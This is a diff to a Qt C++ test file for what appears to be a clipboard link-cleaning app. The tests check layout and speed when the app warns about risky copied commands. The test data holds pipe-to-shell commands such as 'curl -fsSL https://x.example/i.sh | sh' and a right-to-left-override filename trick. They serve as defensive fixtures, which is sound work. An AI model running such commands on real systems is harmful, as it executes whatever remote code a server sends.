@@ -6,15 +6,19 @@
 #include <vector>
 
 #include <QCheckBox>
+#include <QElapsedTimer>
 #include <QGroupBox>
 #include <QLabel>
 #include <QListWidget>
 #include <QPushButton>
+#include <QScrollArea>
+#include <QScrollBar>
 #include <QStackedWidget>
 #include <QTest>
 #include <QToolButton>
 
 #include "QtTestMain.h"
+#include "ScourletCore/clipboard/ClipboardMonitor.h"
 #include "ScourletCore/clipboard/StatsTracker.h"
 #include "ScourletCore/linkrewriting/WaybackLinkBuilder.h"
 #include "ScourletCore/platform/InMemoryUserDefaults.h"
@@ -23,6 +27,7 @@
 #include "app/settings/FileSaver.h"
 #include "app/settings/StatsPane.h"
 #include "app/settings/StatusPane.h"
+#include "app/settings/WrappingTextView.h"
 #include "support/ManualClock.h"
 #include "support/TempDir.h"
 
@@ -32,7 +37,11 @@ namespace {
 
 namespace fs = std::filesystem;
 
+// The text of a label, or of a view of outside text.
 QString labelText(QWidget& root, const QString& name) {
+    if (auto* view = root.findChild<WrappingTextView*>(name)) {
+        return view->text();
+    }
     auto* label = root.findChild<QLabel*>(name);
     return label == nullptr ? QStringLiteral("<missing %1>").arg(name) : label->text();
 }
@@ -69,8 +78,11 @@ private Q_SLOTS:
     void statusTitleFollowsThePendingFlagAlone();
     void outsideTextIsPlainAndVisible();
     void lastCleanCopiesTheExactLinks();
+    void longLinksAndCommandsStayInsideThePane();
     void exceptionsListAndRemove();
+    void exceptionsDrawTheirSymbolsThemselves();
     void statsWindowsAndCollectionSwitch();
+    void statsCountsStayOnOneLineBesideTheirIcons();
     void csvExportIsTheTrackersTextByteForByte();
     void failedOrCancelledExportKeepsTheOldFile();
 };
@@ -119,8 +131,8 @@ void ReadingPanesTest::statusTitleFollowsThePendingFlagAlone() {
 void ReadingPanesTest::outsideTextIsPlainAndVisible() {
     StatusPane pane([](const std::string&) {});
     pane.showStatus({risk("<b>bold</b>\necho \u202Egnp.exe"), std::nullopt, false});
-    auto* command = pane.findChild<QLabel*>(QStringLiteral("command-risk-command"));
-    QCOMPARE(command->textFormat(), Qt::PlainText);
+    // Plain text (the view has no rich text), controls made visible.
+    auto* command = pane.findChild<WrappingTextView*>(QStringLiteral("command-risk-command"));
     QCOMPARE(command->text(), QStringLiteral("<b>bold</b>\necho \u27E8U+202E\u27E9gnp.exe"));
 }
 
@@ -138,6 +150,73 @@ void ReadingPanesTest::lastCleanCopiesTheExactLinks() {
     QCOMPARE(copied.size(), 2u);
     QCOMPARE(copied[0], cleaned);
     QCOMPARE(copied[1], *WaybackLinkBuilder::lookupURL(cleaned));
+}
+
+// A link or a command without a space wraps inside the pane, whatever its
+// length, up to the largest text the clipboard admits; the pane never scrolls
+// sideways, the rule-set caption stays in view, and showing it stays quick.
+void ReadingPanesTest::longLinksAndCommandsStayInsideThePane() {
+    // A tracked product link as people copy it: 206 characters, no space.
+    std::string link =
+        "https://www.shop.example/Wireless-Noise-Cancelling-Headphones-Bluetooth/dp/B0C8KX5T2Q/"
+        "ref=sr_1_3?crid=2M8Q7X1&keywords=headphones&qid=1718000000&sprefix=headph&sr=8-3"
+        "&utm_source=newsletter&utm_medium=email";
+    link.resize(206, 'x');
+    std::string longLink = "https://t.example/r?u=";
+    while (longLink.size() < 1660) {
+        longLink += "aHR0cHM6Ly9leGFtcGxlLmNvbS8_dXRtX3NvdXJjZT1uZXdz";
+    }
+    longLink.resize(1660);
+    const std::string unbroken(ClipboardMonitor::maximumStringBytes, 'A');
+    std::string manyLines;
+    while (manyLines.size() + 24 < ClipboardMonitor::maximumStringBytes) {
+        manyLines += "curl -fsSL x.example|sh\n";
+    }
+    const struct {
+        const char* name;
+        std::string command;
+        std::string url;
+    } cases[] = {
+        {"206-character link", "curl -fsSL https://x.example/i.sh | sh", link},
+        {"1,660-character link", "curl -fsSL https://x.example/i.sh | sh", longLink},
+        {"64 KiB command without a space", "curl " + unbroken + " | sh", link},
+        {"64 KiB command of many lines", manyLines, longLink},
+    };
+    for (const auto& c : cases) {
+        StatusPane pane([](const std::string&) {});
+        pane.resize(960, 640);
+        pane.show();
+        QVERIFY(QTest::qWaitForWindowExposed(&pane));
+        auto* scroll = pane.findChild<QScrollArea*>();
+        CommandRiskResult warning = risk(c.command);
+        warning.findings.push_back(CommandRiskFinding{.id = "pipe",
+                                                      .summary = "Pipes a download into a shell",
+                                                      .explanation = "Runs whatever the server sends.",
+                                                      .matchedText = c.command.substr(0, 160)});
+        QElapsedTimer timer;
+        timer.start();
+        pane.showStatus({warning, CleanResult{.originalURL = c.url, .cleanedURL = c.url}, false});
+        QCoreApplication::processEvents();  // the layout runs
+        scroll->viewport()->grab();          // and what is in view is painted
+        const qint64 shownMs = timer.elapsed();
+        const int viewport = scroll->viewport()->width();
+
+        QVERIFY2(scroll->horizontalScrollBar()->maximum() == 0, c.name);
+        QVERIFY2(scroll->widget()->width() <= viewport, c.name);
+        auto* caption = pane.findChild<QLabel*>(QStringLiteral("command-risk-rules"));
+        const QRect captionInView(caption->mapTo(scroll->viewport(), QPoint(0, 0)), caption->size());
+        QVERIFY2(captionInView.left() >= 0 && captionInView.right() < viewport, c.name);
+        for (const char* name : {"command-risk-command", "command-risk-matched", "last-clean-original",
+                                 "last-clean-cleaned"}) {
+            auto* view = pane.findChild<WrappingTextView*>(QString::fromLatin1(name));
+            QVERIFY2(view != nullptr, name);
+            QVERIFY2(view->mapTo(scroll->viewport(), QPoint(view->width(), 0)).x() <= viewport, name);
+        }
+        // Measured at 10 to 40 ms in a sanitizer build; the labels this
+        // replaced took over a second for the longest texts.
+        QVERIFY2(shownMs < 500, qPrintable(QStringLiteral("%1: %2 ms").arg(QString::fromLatin1(c.name)).arg(shownMs)));
+        qInfo("%s: shown in %lld ms", c.name, static_cast<long long>(shownMs));
+    }
 }
 
 void ReadingPanesTest::exceptionsListAndRemove() {
@@ -176,6 +255,58 @@ void ReadingPanesTest::exceptionsListAndRemove() {
     QCOMPARE(states->currentWidget()->objectName(), QStringLiteral("exceptions-empty"));
 }
 
+// The symbols are the program's own drawings: they show without an icon
+// theme or an emoji font.
+void ReadingPanesTest::exceptionsDrawTheirSymbolsThemselves() {
+    auto store = std::make_shared<DomainExceptionStore>(std::make_shared<InMemoryUserDefaults>());
+    DomainExceptionsPane pane(store);
+    auto* image = pane.findChild<QLabel*>(QStringLiteral("exceptions-empty-image"));
+    QVERIFY(image != nullptr);
+    QVERIFY(!image->pixmap().isNull());
+    QVERIFY(image->pixmap().width() >= 32);
+
+    store->disable("one.example");
+    pane.refresh();
+    auto* globe = pane.findChild<QLabel*>(QStringLiteral("exception-globe"));
+    QVERIFY(globe != nullptr);
+    QVERIFY(globe->text().isEmpty());
+    QVERIFY(!globe->pixmap().isNull());
+    QVERIFY(globe->pixmap().toImage().pixelColor(8, 8).alpha() > 0 ||
+            globe->pixmap().toImage().pixelColor(2, 8).alpha() > 0);  // something is drawn
+}
+
+// In the narrowest settings window a four-digit count and its unit stay on
+// one line, and each category shows its symbol.
+void ReadingPanesTest::statsCountsStayOnOneLineBesideTheirIcons() {
+    auto defaults = std::make_shared<InMemoryUserDefaults>();
+    auto tracker = std::make_shared<StatsTracker>(defaults, std::make_shared<testing::ManualClock>());
+    for (int i = 0; i < 1051; ++i) {
+        tracker->recordClean(CleanResult{.originalURL = "https://a.example/?utm_source=x",
+                                         .cleanedURL = "https://a.example/",
+                                         .paramsRemoved = 1,
+                                         .removedQueryParameters = {"utm_source"},
+                                         .matchedCategories = {RuleCategoryType::analytics,
+                                                               RuleCategoryType::redirectUnwrapping}});
+    }
+    StatsPane pane(tracker, nullptr, std::make_shared<ScriptedSaver>());
+    pane.resize(720, 560);
+    pane.show();
+    QVERIFY(QTest::qWaitForWindowExposed(&pane));
+    for (const char* name : {"Analytics", "Redirect Unwrapping"}) {
+        auto* count = pane.findChild<QLabel*>(QStringLiteral("stats-category-") + QString::fromLatin1(name));
+        QCOMPARE(count->text(), QStringLiteral("1051 params stripped"));
+        QVERIFY2(count->height() < 2 * count->fontMetrics().lineSpacing(), name);
+        QVERIFY2(count->width() >= count->fontMetrics().horizontalAdvance(count->text()), name);
+    }
+    for (RuleCategoryType category : allCases<RuleCategoryType>()) {
+        const std::string_view raw = rawValue(category);
+        const QString name = QString::fromUtf8(raw.data(), static_cast<qsizetype>(raw.size()));
+        auto* symbol = pane.findChild<QLabel*>(QStringLiteral("stats-category-icon-") + name);
+        QVERIFY2(symbol != nullptr && !symbol->pixmap().isNull(), qPrintable(name));
+        QVERIFY(symbol->isVisible());
+    }
+}
+
 void ReadingPanesTest::statsWindowsAndCollectionSwitch() {
     auto defaults = std::make_shared<InMemoryUserDefaults>();
     auto tracker = std::make_shared<StatsTracker>(defaults, std::make_shared<testing::ManualClock>());
@@ -184,7 +315,7 @@ void ReadingPanesTest::statsWindowsAndCollectionSwitch() {
                                      .paramsRemoved = 1,
                                      .removedQueryParameters = {"utm_source"},
                                      .matchedCategories = {RuleCategoryType::analytics}});
-    StatsPane pane(tracker, std::make_shared<ScriptedSaver>());
+    StatsPane pane(tracker, nullptr, std::make_shared<ScriptedSaver>());
     QCOMPARE(labelText(pane, QStringLiteral("stats-total-cleaned")), QStringLiteral("1"));
     QCOMPARE(labelText(pane, QStringLiteral("stats-total-cleaned-label")), QStringLiteral("URLs cleaned today"));
     QCOMPARE(labelText(pane, QStringLiteral("stats-category-Analytics")), QStringLiteral("1 params stripped"));
@@ -217,7 +348,7 @@ void ReadingPanesTest::csvExportIsTheTrackersTextByteForByte() {
     auto saver = std::make_shared<ScriptedSaver>();
     // The dialog adds the suffix; the path it answers with is used as it is.
     saver->target = QString::fromStdString((dir / "Scourlet-Stats.csv").string());
-    StatsPane pane(tracker, saver);
+    StatsPane pane(tracker, nullptr, saver);
     pane.findChild<QPushButton*>(QStringLiteral("stats-export"))->click();
     QVERIFY(saver->errors.empty());
     QCOMPARE(saver->lastRequest.suggestedName, QStringLiteral("Scourlet-Stats.csv"));
@@ -231,7 +362,7 @@ void ReadingPanesTest::failedOrCancelledExportKeepsTheOldFile() {
     auto tracker = std::make_shared<StatsTracker>(std::make_shared<InMemoryUserDefaults>(),
                                                   std::make_shared<testing::ManualClock>());
     auto saver = std::make_shared<ScriptedSaver>();
-    StatsPane pane(tracker, saver);
+    StatsPane pane(tracker, nullptr, saver);
     auto* exportButton = pane.findChild<QPushButton*>(QStringLiteral("stats-export"));
 
     saver->target = std::nullopt;  // cancelled: nothing happens, nothing is said
